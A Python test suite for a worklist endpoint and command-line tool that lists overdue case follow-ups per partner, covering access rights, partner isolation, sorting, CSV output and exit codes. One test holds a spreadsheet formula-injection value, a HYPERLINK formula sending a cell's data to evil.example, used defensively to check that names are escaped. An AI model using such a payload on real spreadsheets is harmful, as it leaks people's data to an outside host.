"""/v1/worklist and `ladder worklist`: whose news is running out, and who may know it."""

import csv
import io
import json
import unittest
from datetime import date, timedelta

import harness
from harness import ABSENT, assessed, day, event, fresh, retraction, settled

WHO = "isd"
ALL = {"municipalities": "*"}


def tell(daemon, *events, who=WHO):
    """Pushes events; lists that are read later know of them."""
    daemon.accept(*events, who=who)
    daemon.told_at = harness.now_text()


def current(daemon, who=WHO):
    """Waits until lists include all that was told: they may be a second old."""
    def knows():
        answer = daemon.get("/v1/worklist", who=who, limit=1)
        assert answer.status == 200, answer
        return answer.json["known_at"] >= getattr(daemon, "told_at", "")
    harness.until(knows, "the list knows what was told")


def worklist(daemon, who=WHO, **parameters):
    current(daemon, who)
    answer = daemon.get("/v1/worklist", who=who, **parameters)
    assert answer.status == 200, answer
    assert answer.media_type == harness.JSON, answer
    return answer.json


def items(daemon, who=WHO, subject=None, **parameters):
    """The rows, of one person when a subject is given."""
    return [item for item in worklist(daemon, who, **parameters)["items"]
            if subject is None or item["subject"] == subject]


def reasons(daemon, subject, who=WHO):
    return [item["reason"] for item in items(daemon, who, subject)]


def contact(subject, on, **fields):
    return event("contact_held", {"by": "CASE_MANAGER", "two_way": True}, subject=subject,
                 occurred_on=on, **fields)


def plan(subject, on, **fields):
    return event("plan_signed", {
        "has_main_goal": True, "has_own_ambition": True, "has_language_part": True,
        "has_participation_part": True, "longest_horizon_months": 24},
        subject=subject, occurred_on=on, **fields)


def job(subject, on, ref, **fields):
    return event("job_started", {"job_ref": ref, "funding": "FULLY_PAID", "hours_per_week": 20},
                 subject=subject, occurred_on=on, **fields)


def of_job(body_type, subject, on, ref, **fields):
    return event(body_type, {"job_ref": ref}, subject=subject, occurred_on=on, **fields)


class Answers(harness.Case):
    partners = {"isd": {}, "other": {}, "silent": {}}

    def test_a_row_says_who_why_since_when_and_until_when(self):
        subject = fresh("s")
        tell(self.daemon, job(subject, day(-125), "2025-a"))
        answer = worklist(self.daemon)
        self.assertEqual(list(answer), ["as_of", "known_at", "partner", "total", "items"])
        self.assertEqual((answer["as_of"], answer["partner"]), (day(), "isd"))
        self.assertLess(abs((harness.instant(answer["known_at"])
                             - harness.instant(harness.now_text())).total_seconds()), 60)
        self.assertEqual(answer["total"], len(answer["items"]))
        row, = [item for item in answer["items"] if item["subject"] == subject]
        self.assertEqual(row, {
            "subject": subject, "municipality": "GM0823", "reason": "job_not_confirmed",
            "since": day(-125), "days": 125, "falls_silent_on": day(59), "ref": "2025-a"})
        self.assertEqual(list(row), ["subject", "municipality", "reason", "since", "days",
                                     "falls_silent_on", "ref"])

    def test_each_reason_comes_on_its_day_and_not_before(self):
        table = [
            ("rung_not_assessed", 150, lambda s, on: assessed(s, on, 2)),
            ("job_not_confirmed", 120, lambda s, on: job(s, on, "a")),
            ("no_contact", 60, contact),
            ("plan_not_reviewed", 300, plan),
        ]
        for reason, days, make in table:
            with self.subTest(reason=reason):
                early, due = fresh("s"), fresh("s")
                tell(self.daemon, make(early, day(1 - days)), make(due, day(-days)))
                self.assertEqual(reasons(self.daemon, early), [])
                self.assertEqual(reasons(self.daemon, due), [reason])

    def test_an_obligation_without_a_plan_is_there_from_the_first_day(self):
        subject = fresh("s")
        tell(self.daemon, plan(fresh("s"), day()),
                           event("obligation_started", {}, subject=subject, occurred_on=day()))
        row, = items(self.daemon, subject=subject)
        self.assertEqual((row["reason"], row["days"], row["falls_silent_on"], row["ref"]),
                         ("obligation_without_plan", 0, day(70), None))
        tell(self.daemon, plan(subject, day()))
        self.assertEqual(reasons(self.daemon, subject), [])

    def test_news_takes_a_row_away_and_its_withdrawal_brings_it_back(self):
        subject = fresh("s")
        later = assessed(subject, day(-10), 4)
        tell(self.daemon, assessed(subject, day(-200), 3))
        before = items(self.daemon, subject=subject)
        self.assertEqual([row["since"] for row in before], [day(-200)])
        tell(self.daemon, later)
        self.assertEqual(items(self.daemon, subject=subject), [])
        tell(self.daemon, retraction(later["id"]))
        self.assertEqual(items(self.daemon, subject=subject), before)

    def test_a_correction_by_key_counts_from_then_on(self):
        subject, key = fresh("s"), fresh("row")
        tell(self.daemon, assessed(subject, day(-200), 3, key=key))
        tell(self.daemon, assessed(subject, day(-170), 3, key=key))
        self.assertEqual([row["since"] for row in items(self.daemon, subject=subject)],
                         [day(-170)])
        # The correction moves the event to somebody else.
        other = fresh("s")
        tell(self.daemon, assessed(other, day(-170), 3, key=key))
        self.assertEqual(items(self.daemon, subject=subject), [])
        self.assertEqual(len(items(self.daemon, subject=other)), 1)

    def test_what_was_all_withdrawn_is_a_kind_that_is_not_sent(self):
        subject, once = fresh("s"), contact(fresh("s"), day())
        tell(self.daemon, settled(subject, day(-80)), once, who="other")
        self.assertEqual(reasons(self.daemon, subject, "other"), ["no_contact"])
        tell(self.daemon, retraction(once["id"]), who="other")
        self.assertEqual(reasons(self.daemon, subject, "other"), [])

    def test_rows_are_sorted_by_the_day_of_falling_silent_then_by_subject(self):
        one, two, three = sorted(fresh("s") for _ in range(3))
        tell(self.daemon, assessed(two, day(-160), 2), assessed(one, day(-160), 2),
                           assessed(three, day(-210), 2), contact(one, day(-61)))
        rows = items(self.daemon)
        keys = [(row["falls_silent_on"], row["subject"]) for row in rows]
        self.assertEqual(keys, sorted(keys))
        mine = [row["subject"] for row in rows if row["subject"] in (one, two, three)]
        self.assertEqual(mine, [three, one, one, two])

    def test_tomorrows_event_does_not_count_today(self):
        subject = fresh("s")
        tell(self.daemon, assessed(subject, day(-150), 2), assessed(subject, day(1), 2))
        self.assertEqual(reasons(self.daemon, subject), ["rung_not_assessed"])

    def test_limit_gives_the_most_urgent_and_tells_how_many_there_are(self):
        tell(self.daemon, *[assessed(fresh("s"), day(-150 - n), 2) for n in range(5)])
        whole = worklist(self.daemon)
        part = worklist(self.daemon, limit=3)
        self.assertEqual(part["items"], whole["items"][:3])
        self.assertEqual(part["total"], whole["total"])
        self.assertGreater(whole["total"], 3)

    def test_what_is_silent_and_what_is_not_yet_are_asked_for_apart(self):
        silent, today, coming = fresh("s"), fresh("s"), fresh("s")
        tell(self.daemon, assessed(silent, day(-216), 2), assessed(today, day(-215), 2),
             assessed(coming, day(-214), 2))
        for word, mine in (("yes", {silent, today}), ("no", {coming})):
            rows = {item["subject"] for item in items(self.daemon, silent=word)}
            self.assertEqual(rows & {silent, today, coming}, mine)
        both = items(self.daemon, silent="yes") + items(self.daemon, silent="no")
        self.assertEqual(both, items(self.daemon))

    def test_csv_has_the_same_rows(self):
        tell(self.daemon, job(fresh("s"), day(-130), "a:b.c_d-e"), assessed(fresh("s"), day(-190), 2))
        current(self.daemon)
        answer = self.daemon.get("/v1/worklist", who=WHO, headers={"Accept": "text/csv"})
        self.assertEqual((answer.status, answer.media_type), (200, "text/csv"), answer)
        rows = list(csv.DictReader(io.StringIO(answer.body.decode())))
        expected = [{name: "" if value is None else str(value) for name, value in item.items()}
                    for item in items(self.daemon)]
        self.assertEqual(rows, expected)

    def test_nothing_is_to_be_kept_by_a_cache(self):
        answer = self.daemon.get("/v1/worklist", who=WHO)
        self.assertEqual(answer.header("Cache-Control"), "no-store")

    def test_a_partner_that_never_sent_has_an_empty_list(self):
        answer = worklist(self.daemon, "silent")
        self.assertEqual((answer["total"], answer["items"]), (0, []))

    def test_no_pseudonym_is_in_what_the_daemon_says(self):
        subject = fresh("s")
        tell(self.daemon, assessed(subject, day(-190), 2))
        self.assertEqual(len(items(self.daemon, subject=subject)), 1)
        self.assertNotIn(subject, self.daemon.output.read_text())

    def test_bad_questions_are_400(self):
        for query in ("limit=0", "limit=x", "limit=100001", "limit=", "municipality=0823",
                      "municipality=", "silent=maybe", "as_of=2026-01-01", "limit=1&limit=2"):
            with self.subTest(query=query):
                self.assertProblem(self.daemon.get("/v1/worklist?" + query, who=WHO), 400)

    def test_only_a_partner_has_a_list(self):
        self.assertProblem(self.daemon.get("/v1/worklist"), 401)
        self.assertProblem(self.daemon.get("/v1/worklist", token="wrong"), 401)
        self.assertProblem(self.daemon.get("/v1/worklist", who="analyst"), 403)
        self.assertProblem(self.daemon.get("/v1/worklist", who="prometheus"), 403)
        self.assertProblem(self.daemon.request("POST", "/v1/worklist", who=WHO), 405)


class Others(harness.Case):
    """What another partner sent is never to be seen."""

    partners = {"isd": {}, "vwn": {}}

    def test_another_partners_people_never_appear(self):
        subject = fresh("s")
        tell(self.daemon, assessed(subject, day(-190), 2))
        self.assertEqual(reasons(self.daemon, subject), ["rung_not_assessed"])
        self.assertEqual(items(self.daemon, "vwn", subject), [])

    def test_another_partners_news_changes_no_row(self):
        subject = fresh("s")
        tell(self.daemon, settled(subject, day(-400)), assessed(subject, day(-190), 2),
                           job(subject, day(-130), "a"), contact(subject, day(-70)),
                           plan(subject, day(-310)))
        before = items(self.daemon, subject=subject)
        self.assertEqual(len(before), 4)
        tell(self.daemon, 
            assessed(subject, day(-1), 5), contact(subject, day(-1)),
            of_job("job_confirmed", subject, day(-1), "a"), plan(subject, day(-2)),
            event("plan_reviewed", {}, subject=subject, occurred_on=day(-1)),
            event("guidance_ended", {"reason": "SELF_SUFFICIENT"}, subject=subject,
                  occurred_on=day(-1)),
            event("person_registered", {"birth_year": date.today().year - 5}, subject=subject,
                  occurred_on=day(-1)), who="vwn")
        self.assertEqual(items(self.daemon, subject=subject), before)

    def test_who_died_is_on_nobodys_list_whoever_said_so(self):
        subject = fresh("s")
        gone = event("exited", {"reason": "DEFINITIVE"}, subject=subject, occurred_on=day(-1))
        tell(self.daemon, settled(subject, day(-400)), assessed(subject, day(-190), 2),
                           contact(subject, day(-1)))
        self.assertEqual(reasons(self.daemon, subject), ["rung_not_assessed"])
        tell(self.daemon, gone, who="vwn")
        self.assertEqual(reasons(self.daemon, subject), [])
        tell(self.daemon, retraction(gone["id"]), who="vwn")
        self.assertEqual(reasons(self.daemon, subject), ["rung_not_assessed"])

    def test_a_job_that_ended_is_not_asked_for_whoever_said_so(self):
        subject = fresh("s")
        tell(self.daemon, job(subject, day(-130), "a"))
        tell(self.daemon, of_job("job_ended", subject, day(-3), "a"), who="vwn")
        self.assertEqual(reasons(self.daemon, subject), [])


class Rights(harness.OwnDaemon):
    def test_rights_of_now_decide_also_after_sighup(self):
        daemon = self.ladderd(partners={"isd": {}})
        here, there = fresh("s"), fresh("s")
        tell(daemon, assessed(here, day(-190), 2), contact(here, day(-70)),
                      assessed(there, day(-190), 2, municipality="GM0999"))
        self.assertEqual(sorted((row["subject"] == here, row["reason"]) for row in items(daemon)),
                         [(False, "rung_not_assessed"), (True, "no_contact"),
                          (True, "rung_not_assessed")])
        self.assertEqual([row["subject"] for row in items(daemon, municipality="GM0999")],
                         [there])
        daemon.partners["isd"] = {"municipalities": "GM0823", "types": "contact_held, exited"}
        daemon.write_config()
        daemon.hang_up()

        def narrowed():
            return [(row["subject"], row["reason"]) for row in items(daemon)] == [
                (here, "no_contact")]
        harness.until(narrowed, "the rights are those of the file")
        self.assertProblem(daemon.get("/v1/worklist", who="isd", municipality="GM0999"), 403)
        self.assertEqual(len(items(daemon, municipality="GM0823")), 1)

    def test_a_list_over_the_limit_is_refused_and_never_cut_in_silence(self):
        daemon = self.ladderd(partners={"isd": {}}, sections="[limits]\nworklist_rows_max = 3")
        tell(daemon, *[assessed(fresh("s"), day(-190), 2) for _ in range(3)])
        self.assertEqual(worklist(daemon)["total"], 3)
        tell(daemon, assessed(fresh("s"), day(-190), 2))
        current(daemon)
        self.assertProblem(daemon.get("/v1/worklist", who="isd"), 400)
        self.assertProblem(daemon.get("/v1/worklist", who="isd", headers={"Accept": "text/csv"}),
                           400)
        part = worklist(daemon, limit=3)
        self.assertEqual((part["total"], len(part["items"])), (4, 3))

    def test_a_list_is_the_same_after_a_restart_and_after_a_kill(self):
        daemon = self.ladderd(partners={"isd": {}})
        events = harness.generated("--people", "80", "--years", "3", "--until", day(-100))
        for place in range(0, len(events), 5000):
            tell(daemon, *events[place:place + 5000])
        before = items(daemon)
        self.assertGreater(len({row["reason"] for row in before}), 3)
        daemon.restart()
        self.assertEqual(items(daemon), before)
        daemon.kill()
        daemon.start()
        self.assertEqual(items(daemon), before)
        daemon.stop()
        (daemon.store / "state").unlink()
        daemon.start()
        self.assertEqual(items(daemon), before)
        daemon.stop()
        harness.ladder("replay", "--verify", daemon.store, check=0)


class Figures(harness.OwnDaemon):
    """The day on which a row falls silent is the one on which the figure says so."""

    def figure(self, daemon, on, *path):
        """A figure at a day that has come: the last of all that is known."""
        found = daemon.figures(municipality="GM0823", as_of=on).json["indicators"]
        for step in path:
            found = found[step]
        return found

    def check(self, daemon, subject, path, before, then):
        row, = items(daemon, subject=subject)
        on = date.fromisoformat(row["falls_silent_on"])
        self.assertLessEqual(on, harness.today(), "a day that can be asked for")
        eve = self.figure(daemon, (on - timedelta(days=1)).isoformat(), *path)
        self.assertEqual((eve, self.figure(daemon, on.isoformat(), *path)), (before, then), row)

    def test_a_rung_is_stale_on_the_day(self):
        daemon, subject = self.ladderd(partners={"isd": {}}), fresh("s")
        tell(daemon, settled(subject, day(-400)), assessed(subject, day(-390), 2))
        self.check(daemon, subject, ("ladder_position", "stale"), 0, 1)

    def test_a_job_is_unknown_on_the_day(self):
        daemon, subject = self.ladderd(partners={"isd": {}}), fresh("s")
        tell(daemon, settled(subject, day(-400)), job(subject, day(-390), "a"),
                      of_job("job_confirmed", subject, day(-380), "a"))
        self.check(daemon, subject, ("job_outcome", "adults", "unknown"), 0, 1)

    def test_a_contact_is_over_90_days_on_the_day(self):
        for events in (lambda s: [settled(s, day(-400)), contact(s, day(-380))],
                       lambda s: [settled(s, day(-400)), contact(fresh("s"), day(-1))]):
            daemon, subject = self.ladderd(partners={"isd": {}}), fresh("s")
            tell(daemon, *events(subject))
            self.check(daemon, subject, ("contact", "over_90_days"), 0, 1)

    def test_a_plan_has_no_perspective_any_more_on_the_day(self):
        daemon, subject = self.ladderd(partners={"isd": {}}), fresh("s")
        tell(daemon, settled(subject, day(-400)), plan(subject, day(-390)),
                      event("plan_reviewed", {}, subject=subject, occurred_on=day(-380)))
        self.check(daemon, subject, ("plan", "with_perspective"), 1, 0)

    def test_a_plan_is_not_within_ten_weeks_on_the_day(self):
        daemon, subject = self.ladderd(partners={"isd": {}}), fresh("s")
        tell(daemon, settled(subject, day(-100)), plan(fresh("s"), day()),
                      event("obligation_started", {}, subject=subject, occurred_on=day(-90)))
        self.check(daemon, subject, ("plan", "on_time", "within", 0, "share"), None, 0)


class Command(harness.OwnDaemon):
    def run_worklist(self, daemon, *arguments, check=0, who="isd"):
        return harness.ladder("worklist", "--to", f"http://127.0.0.1:{daemon.port}", "--token-file",
                            daemon.token_file(who), *arguments, check=check)

    def made(self):
        daemon = self.ladderd(partners={"isd": {}, "vwn": {}})
        tell(daemon, assessed("p-2", day(-230), 2), job("p-1", day(-130), "2025-a"),
                      contact("p-3", day(-60), municipality="GM0999"))
        current(daemon)
        return daemon

    def test_the_table_is_read_by_people(self):
        daemon = self.made()
        done = self.run_worklist(daemon)
        lines = done.stdout.decode().splitlines()
        self.assertEqual(lines, [
            "FALLS SILENT         WHO  WHERE   WHY                                         "
            "SINCE       DAYS  JOB",
            f"{day(-15)} (silent)  p-2  GM0823  the rung was not assessed                   "
            f"{day(-230)}  230",
            f"{day(31)}           p-3  GM0999  there was no contact with the case manager  "
            f"{day(-60)}  60",
            f"{day(54)}           p-1  GM0823  the job was not confirmed                   "
            f"{day(-130)}  130   2025-a"])
        self.assertIn(b"3 of 3 rows; of these, 1 silent already", done.stderr)

    def test_nothing_to_do_is_success_and_no_output(self):
        done = self.run_worklist(self.made(), who="vwn")
        self.assertEqual(done.stdout, b"")
        self.assertIn(b"Nothing of vwn is running out", done.stderr)

    def test_json_and_csv_are_those_of_the_daemon(self):
        daemon = self.made()
        made = json.loads(self.run_worklist(daemon, "--format", "json").stdout)
        self.assertEqual(made["items"], items(daemon))
        plain = self.run_worklist(daemon, "--format", "csv").stdout
        self.assertEqual(plain, daemon.get("/v1/worklist", who="isd",
                                           headers={"Accept": "text/csv"}).body)

    def test_municipality_and_limit_narrow_the_list(self):
        daemon = self.made()
        rows = self.run_worklist(daemon, "--format", "csv", "--municipality", "GM0999").stdout
        self.assertEqual(rows.count(b"\n"), 2)
        self.assertIn(b"p-3,", rows)
        rows = self.run_worklist(daemon, "--format", "csv", "--silent", "no", "--municipality",
                                 "GM0823", "--limit", "2").stdout
        self.assertEqual(rows.count(b"\n"), 2)
        self.assertIn(b"p-1,", rows)
        rows = self.run_worklist(daemon, "--format", "csv", "--limit", "1").stdout
        self.assertEqual(rows.count(b"\n"), 2)
        self.assertIn(b"p-2,", rows)

    def test_a_name_that_is_a_formula_is_text_in_the_csv(self):
        daemon = self.made()
        table = daemon.place / "people.csv"
        formula = '=HYPERLINK("http://evil.example/?x="&B2;"x")'
        table.write_text("name;subject\n\"%s\";p-2\n@SUM(1);p-1\nd'Or-Ben;p-3\n"
                         % formula.replace('"', '""'))
        rows = list(csv.DictReader(io.StringIO(self.run_worklist(
            daemon, "--subjects", table, "--format", "csv").stdout.decode())))
        self.assertEqual({row["subject"]: row["name"] for row in rows},
                         {"p-2": "'" + formula, "p-1": "'@SUM(1)", "p-3": "d'Or-Ben"})

    def test_names_come_from_the_local_table(self):
        daemon = self.made()
        table = daemon.place / "people.csv"
        table.write_bytes("\ufeffname;second;subject\r\n\"Yusuf; Amina\";;p-2\r\n"
                          "Çelik, Ömer;1990-02-03;p-1\r\n;;s-salt\r\n"
                          "Çelik, somebody else;;p-1\r\n".encode())
        lines = self.run_worklist(daemon, "--subjects", table).stdout.decode().splitlines()
        self.assertEqual([line[21:].split("  ")[0] for line in lines],
                         ["WHO", "Yusuf; Amina", "p-3", "Çelik, Ömer 1990-02-03"])
        self.assertEqual(len({line.index("GM0") for line in lines[1:]}), 1, "columns stand straight")
        rows = list(csv.DictReader(io.StringIO(self.run_worklist(
            daemon, "--subjects", table, "--format", "csv").stdout.decode())))
        self.assertEqual([(row["name"], row["subject"]) for row in rows],
                         [("Yusuf; Amina", "p-2"), ("", "p-3"), ("Çelik, Ömer 1990-02-03", "p-1")])
        made = json.loads(self.run_worklist(daemon, "-s", table, "-f", "json").stdout)
        self.assertEqual([row["name"] for row in made["items"]],
                         ["Yusuf; Amina", None, "Çelik, Ömer 1990-02-03"])

    def test_a_table_is_read_as_a_spreadsheet_program_wrote_it(self):
        daemon = self.made()
        table = daemon.place / "people.csv"
        for content in ("sep=;\r\nNaam;Pseudoniem\r\nÇelik, Ömer;p-1\r\n",
                        "Pseudoniem\tNaam\np-1\tÇelik, Ömer",
                        "person subject,name\n\np-1,\"Çelik, Ömer\"\n,nobody\np-9\n"):
            for letters in ("cp1252", "utf-8"):
                table.write_bytes(content.encode(letters))
                rows = csv.DictReader(io.StringIO(self.run_worklist(
                    daemon, "--subjects", table, "--format", "csv").stdout.decode()))
                self.assertEqual({row["subject"]: row["name"] for row in rows},
                                 {"p-1": "Çelik, Ömer", "p-2": "", "p-3": ""}, (letters, content))

    def test_a_table_that_is_none_is_told(self):
        daemon = self.made()
        for content, code in ((b"name,number\nA,1\n", 65), (b"", 65), (b"a\0b", 65),
                              (b'name;subject\n"A;p-1\n', 65), (None, 66)):
            table = daemon.place / fresh("table")
            if content is not None:
                table.write_bytes(content)
            done = self.run_worklist(daemon, "--subjects", table, check=code)
            self.assertEqual(done.stdout, b"")

    def test_exit_codes_are_those_of_the_house(self):
        daemon = self.made()
        self.run_worklist(daemon, "--format", "xml", check=64)
        self.run_worklist(daemon, "--municipality", "Oirschot", check=64)
        self.run_worklist(daemon, "operand", check=64)
        self.run_worklist(daemon, "--silent", "maybe", check=64)
        done = self.run_worklist(daemon, who="analyst", check=77)
        self.assertIn(b"403", done.stderr)
        self.run_worklist(daemon, "--token-file", daemon.place / "none", check=66)
        daemon.stop()
        self.run_worklist(daemon, check=69)


if __name__ == "__main__":
    unittest.main()
